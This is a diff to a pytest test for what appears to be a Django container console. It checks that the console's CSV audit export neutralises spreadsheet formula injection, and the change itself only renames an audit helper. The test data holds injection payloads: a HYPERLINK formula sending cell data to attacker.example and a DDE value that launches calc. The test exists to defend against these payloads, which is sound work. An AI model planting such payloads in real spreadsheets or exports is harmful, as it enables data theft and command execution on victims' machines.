@@ -9,7 +9,7 @@ import io
 
 import pytest
 
-from console.access.models import audit
+from console.access.audit import record
 from console.hosts.models import Host
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
@@ -18,10 +18,10 @@ HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
 @pytest.mark.django_db
 def test_formula_cells_are_neutralised(admin_client):
     host = Host.objects.create(name="@host", slug="h", url="unix:///h.sock")
-    audit(None, "container.rename", host=host, target=HYPERLINK, params={"new_name": "+1"})
-    audit(None, "container.stop", host=host, target="-2+3", error="\tcmd|' /C calc'!A0")
-    audit(None, "container.start", host=host, target="\r=1", params=["=1"])
-    audit(None, "container.pause", host=host, target="web-1")
+    record(None, "container.rename", host=host, target=HYPERLINK, params={"new_name": "+1"})
+    record(None, "container.stop", host=host, target="-2+3", error="\tcmd|' /C calc'!A0")
+    record(None, "container.start", host=host, target="\r=1", params=["=1"])
+    record(None, "container.pause", host=host, target="web-1")
     response = admin_client.get("/audit/?format=csv")
     rows = list(csv.reader(io.StringIO(response.content.decode())))
     by_action = {row[3]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
